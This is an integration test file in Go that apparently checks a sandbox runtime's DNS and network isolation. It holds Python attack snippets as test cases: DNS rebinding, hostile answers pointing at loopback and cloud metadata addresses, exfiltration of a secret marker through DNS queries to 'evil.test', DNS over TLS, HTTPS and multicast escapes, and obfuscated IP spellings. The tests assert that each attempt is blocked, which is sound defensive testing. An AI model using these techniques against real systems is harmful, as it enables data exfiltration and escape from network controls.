package integration

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/sandbox-runtime/sandbox-runtime/internal/testing/testhost"
)

// allowGood are the rules of most attacks.
var allowGood = []string{"--allow", goodName, "--allow", "*." + goodName}

// hostileAnswers are addresses that no name leads to.
var hostileAnswers = append([]string{
	"127.0.0.1", "127.1.2.3", "0.0.0.0", "0.0.0.1", "255.255.255.255", "224.0.0.1", "239.255.255.250", "240.0.0.1", "168.63.129.16", "198.18.0.1",
	"198.18.0.2", "198.18.1.0", "192.0.2.1", worldHost, worldHost6, "::1", "::", "fe80::1", "ff02::1", "fd00::9", "fd53::1", "fd53:0:0:1::100",
	"64:ff9b::909:909", "64:ff9b::a00:9", "64:ff9b:1::a00:9", "::ffff:10.0.0.9", "::ffff:127.0.0.1", "::ffff:9.9.9.1", "::ffff:169.254.169.254",
	"::a00:9", "2002:a00:9::1", "2002:909:909::1", "2001:0:a00:9::1", "fec0::1", "100::1",
}, privateServers...)

// An allowed name whose owner is hostile leads nowhere but to public addresses.
func TestAttackByAnswersOfAHostileNameServer(t *testing.T) {
	need(t, world())
	a := newArena(t)
	var attempts []attempt
	add := func(name string, x lie, works bool) {
		host := fmt.Sprintf("n%d.%s", len(attempts), goodName)
		a.names.set(host, x)
		attempts = append(attempts, attempt{name: name, code: fmt.Sprintf("get(%q)", host), works: works})
	}
	for _, address := range hostileAnswers {
		add("an answer "+address, lie{first: []string{address}}, false)
	}
	add("a private and a public answer", lie{first: []string{"10.0.0.9", worldServer}}, true)
	add("only hostile answers", lie{first: hostileAnswers}, false)
	add("no answer", lie{first: []string{}}, false)
	a.try(t, allowGood, attempts)
	a.onlyArrive(t, usual()...)
}

// Rules for addresses open them, and no others. Without such a rule the last test would see nothing.
func TestOnlyARuleOpensTheAddressOfAName(t *testing.T) {
	need(t, world())
	a := newArena(t)
	for i, address := range []string{"10.0.0.9", "10.0.0.8", worldHost, "127.0.0.1"} {
		a.names.set(fmt.Sprintf("n%d.%s", i, goodName), lie{first: []string{address}})
	}
	a.try(t, append(allowGood, "--allow", "10.0.0.9:80", "--allow", "9.9.9.0/24:80"), []attempt{
		{name: "an opened address", code: `get("n0.good.test")`, works: true},
		{name: "another address", code: `get("n1.good.test")`},
		{name: "a range with the host", code: `get("n2.good.test")`},
		{name: "loopback", code: `get("n3.good.test")`},
		{name: "an opened address without a name", code: `get("10.0.0.9")`, works: true},
		{name: "another port of an opened address", code: `get("10.0.0.9", port=443)`},
		{name: "the host without a name", code: `get(host)`},
	})
	a.onlyArrive(t, append(usual(), "10.0.0.9 tcp 80")...)
}

// A name that has led to a public address cannot lead to another kind of address later.
func TestAttackByRebinding(t *testing.T) {
	need(t, world())
	a := newArena(t)
	var attempts []attempt
	for i, address := range []string{"10.0.0.9", "127.0.0.1", worldHost, worldHost6, "169.254.169.254", "::ffff:10.0.0.9", "64:ff9b::a00:9"} {
		host := fmt.Sprintf("n%d.%s", i, goodName)
		a.names.set(host, lie{first: []string{worldServer}, later: []string{address}})
		attempts = append(attempts,
			attempt{name: "first " + address, code: fmt.Sprintf("get(%q)", host), works: true},
			attempt{name: "then " + address, code: fmt.Sprintf("(time.sleep(1.2), get(%q))[1]", host)},
			attempt{name: "again " + address, code: fmt.Sprintf("get(%q)", host)})
	}
	a.try(t, allowGood, attempts)
	a.onlyArrive(t, usual()...)
}

// A name server that lies or fails harms only its own names.
func TestAttackByAFailingNameServer(t *testing.T) {
	testhost.Long(t)
	need(t, world())
	a := newArena(t)
	many := func(prefix string) (all []string) {
		for i := range 1000 {
			all = append(all, fmt.Sprintf("%s%d.%d", prefix, i/250, i%250+1))
		}
		return all
	}
	for name, x := range map[string]lie{
		"silent":         {isSilent: true},
		"truncated":      {isTruncated: true, first: []string{worldServer}},
		"forged":         {isForged: true, forged: []string{"9.9.9.66"}, first: []string{worldServer}},
		"private-1000":   {first: many("10.9.")},
		"reachable-1000": {first: append(many("10.9."), worldServer)},
		"nobody":         {first: []string{"9.9.9.77"}},
		"special-last":   {first: append([]string{worldServer}, many("10.9.")...)},
	} {
		a.names.set(name+"."+goodName, x)
	}
	a.try(t, allowGood, []attempt{
		{name: "an address without a host", code: `get("nobody.good.test")`, late: true},
		{name: "a silent server", code: `get("silent.good.test")`, late: true},
		{name: "truncated", code: `get("truncated.good.test")`, works: true},
		{name: "forged", code: `get("forged.good.test")`, works: true},
		{name: "1000 private addresses", code: `get("private-1000.good.test")`},
		{name: "a public one after 1000 private addresses", code: `get("reachable-1000.good.test")`},
		{name: "a public one before 1000 private addresses", code: `get("special-last.good.test")`, works: true},
		{name: "no such name", code: `get("absent.evil-good.test")`},
	})
	a.onlyArrive(t, usual()...)
}

// Queries carry nothing out: the resolver of a sandbox asks nobody.
func TestAttackByQueries(t *testing.T) {
	testhost.Long(t)
	need(t, world())
	a := newArena(t)
	secret := `mark.strip("<>")`
	var attempts []attempt
	for kind, number := range map[string]int{"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "SRV": 33, "HTTPS": 65, "ANY": 255, "AXFR": 252, "65280": 65280} {
		for _, way := range []string{"ask", "askTCP"} {
			attempts = append(attempts,
				attempt{name: way + " " + kind + " of evil", code: fmt.Sprintf(`%s(%s + ".evil.test", %d)`, way, secret, number)},
				attempt{name: way + " " + kind + " at another server", code: fmt.Sprintf(`%s(%s + ".evil.test", %d, server)`, way, secret, number)})
			if kind != "A" {
				attempts = append(attempts, attempt{name: way + " " + kind + " of good", code: fmt.Sprintf(`%s(%s + ".good.test", %d)`, way, secret, number)})
			}
		}
	}
	attempts = append(attempts, []attempt{
		{name: "a query to Google", code: `ask(mark.strip("<>") + ".evil.test", 1, "8.8.8.8")`},
		{name: "a query to an IPv6 server", code: `ask(mark.strip("<>") + ".evil.test", 1, server6)`},
		{name: "a query to the loopback device", code: `ask(mark.strip("<>") + ".evil.test", 1, "127.0.0.53")`},
		{name: "a query to the host", code: `ask(mark.strip("<>") + ".evil.test", 1, host)`},
		{name: "DNS over TLS", code: `tls("8.8.8.8", "dns.google", 853)`},
		{name: "DNS over TLS at the server", code: `tls(server, mark.strip("<>") + ".evil.test", 853)`},
		{name: "DNS over HTTPS", code: `tls("8.8.8.8", "dns.google", 443)`},
		{name: "DNS over QUIC", code: `send(four, datagram, 0, (server, 853))`},
		{name: "multicast DNS", code: `send(four, datagram, 0, ("224.0.0.251", 5353))`},
		{name: "multicast DNS of IPv6", code: `send(six, datagram, 0, ("ff02::fb", 5353, 0, 1))`},
		{name: "LLMNR", code: `send(four, datagram, 0, ("224.0.0.252", 5355))`},
		{name: "NetBIOS", code: `send(four, datagram, 0, ("9.9.9.255", 137))`},
		{name: "two questions", code: `code((lambda s: (s.connect(("198.18.0.1", 53)), s.settimeout(5), s.send(b"\0\7\1\0\0\2\0\0\0\0\0\0" + 2 * question(mark.strip("<>") + ".evil.test")[12:]), s.recv(500))[3])(socket.socket(four, datagram)))`},
		{name: "an update", code: `code((lambda s: (s.connect(("198.18.0.1", 53)), s.settimeout(5), s.send(b"\0\7\x28\0" + question(mark.strip("<>") + ".evil.test")[4:]), s.recv(500))[3])(socket.socket(four, datagram)))`},
		{name: "a label of bytes", code: `ask([mark.encode(), b"good", b"test"])`},
		{name: "a label with a dot", code: `ask([mark.strip("<>").encode() + b".evil", b"good", b"test"])`},
		{name: "a lookup by the C library", code: `str(socket.getaddrinfo(mark.strip("<>") + ".evil.test", 80))`},
		{name: "a reverse lookup", code: `socket.gethostbyaddr(server)[0]`},
	}...)
	a.try(t, allowGood, attempts)
	a.onlyArrive(t, usual()...)
	for _, q := range a.names.asked() {
		if name, _, _ := strings.Cut(q, " "); name != goodName+"." {
			t.Errorf("a query arrived outside: %s", q)
		}
	}
}

// Only the names of the rules lead somewhere, in each spelling of names and addresses. The name server outside
// gets names in one spelling.
func TestAttackBySpellings(t *testing.T) {
	need(t, world())
	a := newArena(t)
	label := strings.Repeat("a", 63)
	long := strings.Join([]string{label, label, label}, ".") + "." + strings.Repeat("b", 253-3*64-len(".good.test")) + ".good.test"
	attempts := []attempt{
		{name: "upper case", code: `get("GOOD.test")`, works: true},
		{name: "a trailing dot", code: `get("good.test.")`, works: true},
		{name: "mixed case in a query", code: `ask("gOoD.tEsT")`, works: true},
		{name: "the longest name", code: fmt.Sprintf("get(%q)", long), works: true},
		{name: "a name of 254 bytes", code: fmt.Sprintf("ask(%q)", "b"+long)},
		{name: "a name of 300 bytes", code: fmt.Sprintf(`get(%q)`, strings.Repeat("a.", 145)+goodName)},
		{name: "a label of 64 bytes", code: fmt.Sprintf(`get(%q)`, "a"+label+"."+goodName)},
		{name: "a query for a label of 64 bytes", code: fmt.Sprintf(`ask(%q)`, "a"+label+"."+goodName)},
		{name: "an empty label", code: `get("a..good.test")`},
		{name: "a leading dot", code: `get(".good.test")`},
		{name: "a prefix", code: `get("evilgood.test")`},
		{name: "a suffix", code: `get("good.test.evil.test")`},
		{name: "punycode of a look-alike", code: `get("xn--god-jua.test")`},
		{name: "a look-alike", code: `get("gооd.test")`},
		{name: "full width", code: `ask("\xef\xbd\x87ood.test")`},
		{name: "an ideographic dot", code: `ask([b"good\xe3\x80\x82test"])`},
		{name: "a NUL in a name", code: `ask([b"good", b"test\0", b"evil"])`},
		{name: "a space in a name", code: `ask([b"good", b"test "])`},
		{name: "a line in a name", code: `ask([b"a\n", b"good", b"test"])`},
	}
	for _, address := range []string{
		worldServer, "9.9.2313", "9.592137", "151587081", "0x09090909", "0x9.9.9.9", "011.011.011.011", "00000000011.9.9.9", "0X9090909", "9.9.9.9.",
		"[" + worldServer + "]", worldServer6, "2600:0009:0:0:0:0:0:9", worldServer6 + "%lo", "::ffff:9.9.9.9", "::ffff:909:909", "64:ff9b::909:909", "fe80::1%lo",
		worldHost, "0", "127.0.0.1", "localhost", "::1", "2130706433", "0x7f.1", "0.0.0.0", "::", "10.0.0.9", "169.254.169.254", "255.255.255.255",
	} {
		attempts = append(attempts, attempt{name: "a connection to " + address, code: fmt.Sprintf("get(%q)", address)})
		if !strings.ContainsAny(address, ":[") && address != "localhost" {
			attempts = append(attempts, attempt{name: "a query for " + address, code: fmt.Sprintf("ask(%q)", address)},
				attempt{name: "a query for it below good " + address, code: fmt.Sprintf(`ask(%q)`, "good.test."+address)})
		}
	}
	a.try(t, allowGood, attempts)
	a.onlyArrive(t, usual()...)
	for _, q := range a.names.asked() {
		if name, _, _ := strings.Cut(q, " "); name != goodName+"." && name != long+"." {
			t.Errorf("a query arrived outside: %s", q)
		}
	}
}

// A sandbox has room for 10,000 names. A lookup of one more fails, and the Result says so. Names with an address
// keep it.
func TestAttackByTenThousandNames(t *testing.T) {
	need(t, world())
	a := newArena(t)
	script := attemptPrelude + `
s = socket.socket(four, datagram)
s.settimeout(5)
s.connect(("198.18.0.1", 53))
seen, codes = set(), {}
first = code(ask(good))[-4:]
for i in range(10050):
    s.send(question("n%d.good.test" % i))
    r = s.recv(600)
    c = r[3] & 15
    codes[c] = codes.get(c, 0) + 1
    if c == 0:
        seen.add(r[-4:])
print(json.dumps({"codes": codes, "different": len(seen), "same": first == ask(good)[-4:], "works": get(good).decode().startswith("HTTP/1.1 200")}))
`
	got := a.on(t, "do", "--json", "--network", "proxied", "--allow", goodName, "--allow", "*."+goodName, "--", "python3", "-c", script)
	var r struct {
		Stdout     string
		Violations []json.RawMessage
	}
	decode(t, got.stdout, &r)
	if want := `{"codes": {"0": 9999, "2": 51}, "different": 9999, "same": true, "works": true}`; strings.TrimSpace(r.Stdout) != want {
		t.Errorf("inside: %q, want %q; %+v", r.Stdout, want, got)
	}
	if all := fmt.Sprintf("%s", r.Violations); !strings.Contains(all, "10,000 names") {
		t.Errorf("the violations: %s", all)
	}
	for _, q := range a.names.asked() {
		if !strings.HasPrefix(q, goodName+".") {
			t.Errorf("a query arrived outside: %s", q)
		}
	}
}
